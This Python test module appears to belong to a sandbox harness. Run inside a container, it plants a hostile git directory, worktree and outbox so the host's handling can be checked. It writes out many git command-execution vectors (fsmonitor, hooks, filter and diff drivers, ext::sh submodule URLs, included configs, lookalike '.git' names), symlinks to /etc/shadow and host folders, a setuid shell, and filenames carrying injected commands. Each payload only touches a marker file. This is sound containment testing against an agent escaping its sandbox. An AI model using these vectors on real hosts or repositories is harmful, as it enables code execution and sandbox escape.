"""Leaves a hostile tree, git dir and outbox behind, for the host's git and the principal's eyes.

Nothing here is expected to work inside; each attack's trap is a command that would make ``$MARK/<attack>`` on the host,
or something that the test looks for in the result. ``$MARK`` is a folder of the host's that this container can't see.
"""

import contextlib
import hashlib
import os
import shutil
import socket
import stat
import subprocess
import zlib

from harness import attack, make, refused, shell

MARK = os.environ["MARK"]
GIT, TREE, OUT = "/school/git", "/workspace", "/school/outbox"
os.chdir(TREE)


def trap(name):
    return f"touch {MARK}/{name}; cat"


def config(section, *lines):
    with open(f"{GIT}/config", "a") as file:
        file.write(f"{section}\n" + "".join(f"\t{line}\n" for line in lines))


def add(path, text):
    with open(path, "a") as file:
        file.write(text)


def evil_git_dir(path, name):
    for folder in ("objects", "refs/heads", "hooks"):
        os.makedirs(f"{path}/{folder}", exist_ok=True)
    make(f"{path}/HEAD", b"ref: refs/heads/main\n")
    command = trap(name)
    text = (
        f'[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "{command}"\n\thooksPath = hooks\n\tbare = false\n\tworktree = ..\n'
        f'\tpager = "{command}"\n[diff]\n\texternal = "{command}"\n[filter "evil"]\n\tclean = "{command}"\n\tprocess = "{command}"\n'
    )
    make(f"{path}/config", text.encode())
    for hook in ("post-checkout", "pre-commit", "post-index-change", "reference-transaction", "update", "pre-auto-gc"):
        make(f"{path}/hooks/{hook}", f"#!/bin/sh\n{command}\n".encode())
        os.chmod(f"{path}/hooks/{hook}", 0o755)


def git(*arguments, check=True):
    done = subprocess.run(
        ["git", *arguments], capture_output=True, text=True, timeout=60, check=False, errors="replace"
    )
    if check and done.returncode:
        raise RuntimeError(f"git {arguments}: {done.stderr}")
    return done.stdout.strip()


BASE = git("rev-parse", "HEAD", check=False)


# -- the student's own git works first, while its git dir is sound ------------------------------------------------------


@attack("git-index-flags")
def index_flags():
    git("update-index", "--assume-unchanged", "README.md")
    git("update-index", "--skip-worktree", "stats.py")
    add("README.md", "hidden by assume-unchanged\n")
    add("stats.py", "# hidden by skip-worktree\n")
    return git("status", "--short") or "git itself shows nothing"


@attack("git-commit-message")
def commit_message():
    make("message.txt", b"m\n")
    git("add", "message.txt")
    text = "subject \x1b]0;owned\x07\u202e\n\nReviewed-by: CTO <cto@school>\nBead: other-general-0badc0de\nSigned-off-by: Principal\n"
    git("commit", "-q", "--no-verify", "-m", text)
    return "committed"


@attack("git-replace-ref")
def replace_ref():
    tree = git("rev-parse", "HEAD^{tree}")
    empty = git("commit-tree", tree, "-m", "another history")
    git("update-ref", f"refs/replace/{BASE}", empty)
    return git("log", "--oneline", "-1", BASE)


@attack("git-ref-names")
def ref_names():
    head = git("rev-parse", "HEAD")
    held = {}
    for name in ("--upload-pack=touch", "$(touch)", "`touch`", "school/../../x", "a\x1bb", "x;touch y", "HEAD"):
        for folder in ("heads", "tags"):
            path = f"{GIT}/refs/{folder}/{name}"
            with contextlib.suppress(OSError):
                os.makedirs(os.path.dirname(path), exist_ok=True)
                make(path, head.encode() + b"\n")
                held[name] = "planted"
    return held


@attack("git-collect-garbage", 60)
def collect_garbage():
    """Everything that git offers to make objects and worktrees go, and rm for the rest."""
    for arguments in (
        ("gc", "--prune=now", "--aggressive"),
        ("prune", "--expire=now"),
        ("worktree", "prune", "--expire=now"),
        ("repack", "-adfl"),
        ("reflog", "expire", "--expire=now", "--all"),
    ):
        git(*arguments, check=False)
    code, text = shell("rm -rf /school/objects/* /school/objects/.[a-z]* 2>&1 | tail -1")
    return text


@attack("git-write-objects")
def write_objects():
    return [
        refused(make, "/school/objects/escape"),
        refused(os.mkdir, "/school/objects/zz"),
        refused(os.chmod, "/school/objects", 0o777),
    ]


@attack("git-poisoned-object")
def poisoned_object():
    """An object with the name of the base's README and other content, where the student's git finds it first."""
    oid = git("rev-parse", f"{BASE}:README.md")
    folder = f"{GIT}/objects/{oid[:2]}"
    os.makedirs(folder, exist_ok=True)
    with contextlib.suppress(OSError):
        os.unlink(f"{folder}/{oid[2:]}")
    make(f"{folder}/{oid[2:]}", zlib.compress(b"blob 9\0POISONED\n"))
    return oid


@attack("git-pointer-swap")
def pointer_swap():
    """A .git of one's own in the worktree is the classical way to run a command on the host."""

    def link():
        os.symlink("/tmp", f"{TREE}/.git.new")
        os.rename(f"{TREE}/.git.new", f"{TREE}/.git")

    held = [refused(os.unlink, ".git"), refused(os.rename, ".git", "x"), refused(make, ".git"), refused(link)]
    with contextlib.suppress(OSError):
        os.unlink(".git.new")
    return held


@attack("git-move-the-worktree")
def move_worktree():
    """Another folder in the worktree's place, with a .git that is not mounted over."""
    return [refused(os.rename, TREE, "/tmp/w"), refused(os.rename, TREE, f"{TREE}2"), refused(os.rmdir, TREE)]


# -- from here on the git dir is a trap --------------------------------------------------------------------------------


@attack("git-hooks")
def hooks():
    os.makedirs(f"{GIT}/hooks", exist_ok=True)
    for hook in (
        "post-checkout",
        "pre-commit",
        "post-commit",
        "post-index-change",
        "reference-transaction",
        "update",
        "post-receive",
        "pre-auto-gc",
        "fsmonitor-watchman",
        "post-rewrite",
        "pre-push",
    ):
        make(f"{GIT}/hooks/{hook}", f"#!/bin/sh\n{trap('git-hooks')}\n".encode())
        os.chmod(f"{GIT}/hooks/{hook}", 0o755)
    config("[core]", "hooksPath = /school/git/hooks", "hooksPath = hooks")
    return "planted"


@attack("git-fsmonitor")
def fsmonitor():
    config("[core]", f'fsmonitor = "{trap("git-fsmonitor")}"', "fsmonitorHookVersion = 2")
    return "planted"


@attack("git-filters")
def filters():
    command = trap("git-filters")
    config(
        '[filter "evil"]', f'clean = "{command}"', f'smudge = "{command}"', f'process = "{command}"', "required = true"
    )
    add(".gitattributes", "*.txt filter=evil\n*.py filter=evil\n")
    make("filtered.txt", b"as it was written\r\n")
    return "planted"


@attack("git-external-diff")
def external_diff():
    config("[diff]", f'external = "{trap("git-external-diff")}"')
    return "planted"


@attack("git-textconv")
def textconv():
    command = trap("git-textconv")
    config('[diff "evil"]', f'textconv = "{command}"', f'command = "{command}"', "cachetextconv = true")
    config('[merge "evil"]', f'driver = "{command}"')
    add(".gitattributes", "*.bin diff=evil merge=evil\n")
    make("shown.bin", b"plain text in a file that asks for a converter\n")
    return "planted"


@attack("git-programs")
def programs():
    command = trap("git-programs")
    config(
        "[core]",
        *(
            f'{name} = "{command}"'
            for name in ("pager", "editor", "sshCommand", "askPass", "gitProxy", "alternateRefsCommand")
        ),
    )
    config("[gpg]", f'program = "{command}"')
    config("[commit]", "gpgSign = true")
    config("[credential]", f'helper = "!{command}"')
    config("[sequence]", f'editor = "{command}"')
    config("[interactive]", f'diffFilter = "{command}"')
    config("[uploadpack]", f'packObjectsHook = "{command}"')
    config("[alias]", *(f'{name} = "!{command}"' for name in ("status", "diff", "log", "show")))
    return "planted"


@attack("git-users-own-filter")
def users_filter():
    """The test's repository configures a filter named ``users``; the student's attributes apply it to its own files."""
    add(".gitattributes", "*.u filter=users\n")
    make("chosen.u", b"as it was written\n")
    return "planted"


@attack("git-users-own-diff-driver")
def users_driver():
    add(".gitattributes", "*.u diff=users\n")
    return "planted"


@attack("git-attributes-hide")
def attributes_hide():
    add(".gitattributes", "*.hide -diff binary export-ignore linguist-generated ident working-tree-encoding=UTF-16\n")
    make("seen.hide", b"$Id$ a line to be seen\n")
    return "planted"


@attack("git-ignore-hides")
def ignore_hides():
    add(".gitignore", "*\n!.gitignore\n")
    os.makedirs(f"{GIT}/info", exist_ok=True)
    add(f"{GIT}/info/exclude", "*\n")
    make("ignored-by-the-student.sh", b"#!/bin/sh\n")
    return "planted"


@attack("git-submodule-commands")
def submodules():
    add(
        ".gitmodules",
        f'[submodule "evil"]\n\tpath = evil\n\turl = "ext::sh -c {trap("git-submodule-commands")}% >&2"\n\tupdate = "!{trap("git-submodule-commands")}"\n\tfetchRecurseSubmodules = true\n[submodule "../../x"]\n\tpath = -u\n\turl = -uexec\n',
    )
    evil_git_dir("evil/.git", "git-submodule-commands")
    make("evil/file", b"x\n")
    return "planted"


@attack("git-nested-repository")
def nested():
    os.makedirs("nested", exist_ok=True)
    evil_git_dir("nested/.git", "git-nested-repository")
    make("nested/inside.c", b"int x;\n")
    return "planted"


@attack("git-bare-repository")
def bare():
    """A folder that is a bare repository: git, run in it, takes its configuration."""
    evil_git_dir("fixtures/bare", "git-bare-repository")
    return "planted"


@attack("git-linked-dotgit")
def linked_dotgit():
    os.makedirs("linked", exist_ok=True)
    os.symlink("../nested/.git", "linked/.git")
    os.makedirs("pointed", exist_ok=True)
    make("pointed/.git", b"gitdir: ../nested/.git\n")
    return "planted"


@attack("git-case-names")
def case_names():
    for name in (".GIT", ".Git", "sub/.gIT"):
        evil_git_dir(name, "git-case-names")
    return "planted"


@attack("git-unicode-names")
def unicode_names():
    for name in (".g\u200cit", ".gi\u200dt", "\ufeff.git", ".git\u2060", ".g\u206ait"):
        evil_git_dir(name, "git-unicode-names")
    return "planted"


@attack("git-windows-names")
def windows_names():
    for name in ("git~1", ".git ", ".git.", ".git::$INDEX_ALLOCATION", "GIT~1", "a\\.git\\config"):
        os.makedirs(name, exist_ok=True)
        make(f"{name}/config", b"[core]\n")
    return "planted"


@attack("git-linked-gitmodules")
def linked_gitmodules():
    os.makedirs("links", exist_ok=True)
    for name in (".gitmodules", "gitmod~1", "GI7EBA~1", ".gitmodules "):
        os.symlink("/etc/passwd", f"links/{name}")
    return "planted"


@attack("git-worktree-config")
def worktree_config():
    config("[extensions]", "worktreeConfig = true", "partialClone = evil")
    make(f"{GIT}/config.worktree", f'[core]\n\tfsmonitor = "{trap("git-worktree-config")}"\n'.encode())
    config(
        '[remote "evil"]',
        f'url = "ext::sh -c {trap("git-worktree-config")}"',
        "promisor = true",
        f'uploadpack = "{trap("git-worktree-config")}"',
    )
    return "planted"


@attack("git-included-config")
def included():
    make("included", f'[core]\n\tfsmonitor = "{trap("git-included-config")}"\n'.encode())
    config("[include]", "path = /workspace/included", f"path = {MARK}/included", "path = /etc/shadow")
    return "planted"


@attack("git-alternates")
def alternates():
    """Objects of another repository of the host's, by a path that means nothing in here and much out there."""
    add(f"{GIT}/objects/info/alternates", f"{MARK}/secret/.git/objects\n/proc/self/cwd/.git/objects\n")
    make(f"{GIT}/commondir", f"{MARK}/secret/.git\n".encode())
    make(f"{GIT}/gitdir", f"{MARK}/secret/.git\n".encode())
    return "planted"


# -- files -------------------------------------------------------------------------------------------------------------


@attack("files-link-to-a-secret")
def link_to_secret():
    os.symlink(f"{MARK}/secret.txt", "link-to-a-secret")
    os.symlink("/etc/shadow", "link-to-shadow")
    os.symlink("loop", "loop")
    return "planted"


@attack("files-link-for-a-folder")
def link_for_folder():
    """Where a folder was, a link to a folder of the host's: what reads or removes below it reads or removes there."""
    shutil.rmtree("pkg")
    os.symlink(f"{MARK}/outside", "pkg")
    return "planted"


@attack("files-link-where-the-principal-writes")
def link_where_written():
    shutil.rmtree(".hermes", ignore_errors=True)
    os.makedirs(".hermes")
    for kind in ("briefs", "outputs", "results"):
        os.symlink(f"{MARK}/outside", f".hermes/{kind}")
    return "planted"


@attack("files-hard-links")
def hard_links():
    make("own", b"x")
    os.link("own", "own-twice")
    return [
        refused(os.link, source, f"{TREE}/hard")
        for source in (
            "/school/inbox/brief.json",
            "/etc/passwd",
            "/school/lib/orchestrator/errors.py",
            "/school/objects/info",
        )
    ]


@attack("files-pipes-and-sockets")
def pipes():
    """In the place of a tracked file a reader that opens it waits for ever."""
    os.unlink("AGENTS.md")
    os.mkfifo("AGENTS.md")
    os.mkfifo("new-pipe")
    with socket.socket(socket.AF_UNIX) as one:
        one.bind("new-socket")
    return "planted"


@attack("files-setuid")
def setuid():
    shutil.copy("/bin/sh", "setuid-shell")
    os.chmod("setuid-shell", 0o6755)
    return oct(os.stat("setuid-shell").st_mode)


@attack("files-sparse")
def sparse():
    with open("one-terabyte", "wb") as file:
        return refused(os.ftruncate, file.fileno(), 1 << 40)


@attack("files-too-large")
def too_large():
    with open("large", "wb") as file:
        file.truncate(150 << 20)
    return "150 MB, sparse"


@attack("files-deep")
def deep():
    """Deeper than a path can be long: what walks or removes by path fails."""
    here = os.getcwd()
    os.mkdir("deep")
    os.chdir("deep")
    for _ in range(40):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    make("bottom", b"x")
    os.chdir(here)
    return "8000 bytes of path"


@attack("files-many-levels")
def many_levels():
    here = os.getcwd()
    os.mkdir("levels")
    os.chdir("levels")
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(here)
    return "1500 levels"


@attack("files-odd-names")
def odd_names():
    names = [
        b"new\nline",
        b"\x1b]0;owned\x07",
        b"-rf",
        b"--exec=sh",
        b"\xff\xfe",
        "\u202etxt.exe".encode(),
        b"a" * 255,
        b'"quoted"',
        b"M 100644 inline x",
        b" ",
        b"tab\t",
        b"$(touch x)",
        b"`x`",
        b"CON",
        b"\x9b31m",
        b"\xc2\x9b31m",
    ]
    for name in names:
        make(b"/workspace/" + name)
    return f"{len(names)} names"


@attack("files-unreadable")
def unreadable():
    os.mkdir("locked")
    make("locked/file", b"in a locked folder\n")
    make("locked-file", b"locked\n")
    os.chmod("locked-file", 0)
    os.chmod("locked/file", 0)
    os.chmod("locked", 0)
    return "mode 0"


@attack("files-immutable")
def immutable():
    make("immutable")
    return shell(
        "chattr +i immutable 2>&1; chattr +a immutable 2>&1; setfattr -n security.capability -v 0x0100000200040000000000000000000000000000 immutable 2>&1; true"
    )[1][:200] or refused(os.setxattr, "immutable", "security.capability", b"\1\0\0\2\0\4\0\0\0\0\0\0\0\0\0\0\0\0\0\0")


@attack("files-outbox-links")
def outbox_links():
    with contextlib.suppress(OSError):
        os.unlink(f"{OUT}/outcome.json")
    os.symlink(f"{MARK}/secret.txt", f"{OUT}/outcome.json")
    os.symlink(f"{MARK}/outside/written-by-pid1", f"{OUT}/.outcome.json.tmp")
    return "planted"


@attack("files-outbox-pipe")
def outbox_pipe():
    os.mkfifo(f"{OUT}/bookbag.json")
    return "planted"


@attack("files-outbox-events-replaced")
def outbox_events():
    os.unlink(f"{OUT}/events.jsonl")
    os.symlink(f"{MARK}/outside/events", f"{OUT}/events.jsonl")
    return "planted"


@attack("files-outbox-swapped")
def outbox_swapped():
    return [refused(os.rename, OUT, "/tmp/o"), refused(os.rmdir, OUT), refused(os.symlink, "/etc", f"{OUT}/../escape")]
